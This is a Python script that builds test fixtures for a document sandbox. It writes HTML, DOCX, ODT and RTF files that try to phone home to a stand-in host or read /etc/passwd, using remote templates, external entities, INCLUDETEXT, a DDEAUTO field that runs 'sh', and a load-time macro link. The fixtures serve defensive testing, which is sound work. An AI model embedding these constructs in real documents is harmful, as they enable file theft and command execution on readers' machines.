#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Makes the fixtures of this folder: documents that ask a reader to fetch, open or run something.

    python3 tests/data/phone-home/make.py

Those in PDF are made by ../pdf/make.py. tst_sandbox reads each under strace.
"""
import pathlib
import zipfile

HERE = pathlib.Path(__file__).resolve().parent
URL = "http://phone-home.example/"
FILE = "file:///etc/passwd"
WORDS = "Nothing is fetched."
FIXED = (2025, 3, 3, 0, 0, 0)  # same input, same bytes


def html():
    heads = {
        "script": '<script src="%sx.js"></script>' % URL,
        "stylesheet": '<link rel="stylesheet" href="%sx.css">' % URL,
        "style-import": '<style>@import url(%sx.css); @font-face { src: url(%sx.woff) }</style>' % (URL, URL),
        "base-and-refresh": '<base href="%s"><meta http-equiv="refresh" content="0; url=%s">' % (URL, URL),
        "preload": '<link rel="preload" href="%s" as="script"><link rel="dns-prefetch" href="%s">' % (URL, URL),
    }
    bodies = {
        "image": '<img src="%sx.png"><picture><source srcset="%sx.webp"></picture>' % (URL, URL),
        "image-file": '<img src="%s">' % FILE,
        "frame": '<iframe src="%s"></iframe><frameset><frame src="%s"></frameset>' % (URL, FILE),
        "object": '<object data="%s"></object><embed src="%s"><applet archive="%s"></applet>' % (FILE, URL, URL),
        "media": '<video src="%s" poster="%s"></video><audio src="%s"></audio>' % (URL, URL, URL),
        "form": '<form action="%s" method="post"><input type="image" src="%s"></form>' % (URL, URL),
        "svg-use": '<svg><use href="%s#x"/><image href="%s"/></svg>' % (FILE, URL),
    }
    for name, head in heads.items():
        page(name, head, "")
    for name, body in bodies.items():
        page(name, "", body)
    (HERE / "entity-file.html").write_text(
        '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "%s">]>\n<html><body><p>%s &x;</p></body></html>\n'
        % (FILE, WORDS))


def page(name, head, body):
    (HERE / (name + ".html")).write_text("<!DOCTYPE html>\n<html><head><title>Notice</title>%s</head>\n<body>"
                                         "<h1>Notice</h1><p>%s</p>%s</body></html>\n" % (head, WORDS, body))


def archive(name, parts):
    with zipfile.ZipFile(HERE / name, "w") as out:
        for path, text in parts:
            info = zipfile.ZipInfo(path, FIXED)
            info.compress_type = zipfile.ZIP_STORED if path == "mimetype" else zipfile.ZIP_DEFLATED
            out.writestr(info, text)


def docx():
    word = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" ' \
           'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    package = "http://schemas.openxmlformats.org/package/2006/"

    def document(name, kind, target, body="", prolog=""):
        archive(name + ".docx", [
            ("[Content_Types].xml", '<Types xmlns="%scontent-types"><Default Extension="rels" ContentType="application/'
             'vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType='
             '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>' % package),
            ("_rels/.rels", '<Relationships xmlns="%srelationships"><Relationship Id="r1" Type="%sofficeDocument" '
             'Target="word/document.xml"/></Relationships>' % (package, office)),
            ("word/_rels/document.xml.rels", '<Relationships xmlns="%srelationships"><Relationship Id="r9" Type="%s%s" '
             'Target="%s" TargetMode="External"/></Relationships>' % (package, office, kind, target)),
            ("word/document.xml", '<?xml version="1.0" encoding="UTF-8"?>%s<w:document %s><w:body><w:p><w:r><w:t>%s</w:t>'
             '</w:r></w:p>%s</w:body></w:document>' % (prolog, word, WORDS, body)),
        ])

    field = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>%s</w:instrText></w:r><w:r>' \
            '<w:fldChar w:fldCharType="end"/></w:r></w:p>'
    document("remote-template", "attachedTemplate", URL + "x.dotm")
    document("remote-image", "image", URL + "x.png")
    document("remote-part", "aFChunk", FILE, '<w:altChunk r:id="r9"/>')
    document("remote-object", "oleObject", URL + "x.bin")
    document("include-field", "hyperlink", URL, field % ('INCLUDETEXT "%s"' % FILE) + field % ('DDEAUTO "sh" "x"'))
    document("subdocument", "subDocument", FILE, '<w:subDoc r:id="r9"/>')
    document("document-entity", "hyperlink", URL, "",
             '<!DOCTYPE w:document [<!ENTITY x SYSTEM "%s">]>' % FILE)


def odt():
    names = "".join(' xmlns:%s="urn:oasis:names:tc:opendocument:xmlns:%s:1.0"' % (name, name)
                    for name in ("office", "text", "draw", "script")) + ' xmlns:xlink="http://www.w3.org/1999/xlink"'

    def document(name, body, head=""):
        archive(name + ".odt", [
            ("mimetype", "application/vnd.oasis.opendocument.text"),
            ("META-INF/manifest.xml", '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:'
             '1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.'
             'text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
             '</manifest:manifest>'),
            ("content.xml", '<?xml version="1.0" encoding="UTF-8"?><office:document-content%s>%s<office:body><office:text>'
             '<text:p>%s</text:p>%s</office:text></office:body></office:document-content>' % (names, head, WORDS, body)),
        ])

    document("linked-section", '<text:section text:name="s"><text:section-source xlink:href="%s"/></text:section>' % FILE)
    document("linked-image", '<text:p><draw:frame><draw:image xlink:href="%sx.png" xlink:actuate="onLoad"/></draw:frame>'
             '</text:p>' % URL)
    document("linked-object", '<text:p><draw:frame><draw:object xlink:href="%s"/><draw:floating-frame xlink:href="%s"/>'
             '</draw:frame></text:p>' % (FILE, URL))
    document("macro", "", '<office:scripts><office:event-listeners><script:event-listener script:event-name="dom:load" '
             'xlink:href="%sx.py"/></office:event-listeners></office:scripts>' % URL)


def rtf():
    for name, code in {
        "include-picture": r'{\field{\*\fldinst INCLUDEPICTURE "%sx.png" \\d}{\fldrslt }}' % URL,
        "include-text": r'{\field{\*\fldinst INCLUDETEXT "/etc/passwd"}{\fldrslt }}',
        "template": r'{\*\template %sx.dotm}' % URL,
        "linked-ole": r'{\object\objautlink\objupdate{\*\objclass Package}{\*\objdata 0105000002000000}}',
    }.items():
        (HERE / (name + ".rtf")).write_text("{\\rtf1\\ansi %s\\par %s}\n" % (WORDS, code))


if __name__ == "__main__":
    html()
    docx()
    odt()
    rtf()
